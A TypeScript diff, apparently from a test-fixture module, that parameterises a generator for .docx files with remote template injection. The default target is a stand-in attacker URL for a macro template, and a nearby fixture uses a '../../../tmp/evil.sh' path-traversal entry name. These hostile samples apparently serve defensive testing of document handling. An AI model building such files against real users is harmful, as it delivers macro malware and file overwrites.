@@ -179,13 +179,16 @@ export function docxWithTraversal(name = '../../../tmp/evil.sh'): Uint8Array {
 }
 
 /** Remote template injection: Word fetches the template (with its macros) on opening. */
-export function docxWithRemoteTemplate(targetMode = 'External'): Uint8Array {
+export function docxWithRemoteTemplate(
+  targetMode = 'External',
+  target = 'http://attacker.invalid/t.dotm',
+): Uint8Array {
   return deflatedDocx({
     extra: [
       deflatedEntry(
         'word/_rels/settings.xml.rels',
         relsOf([
-          `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="${targetMode}"/>`,
+          `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="${target}" TargetMode="${targetMode}"/>`,
         ]),
       ),
     ],
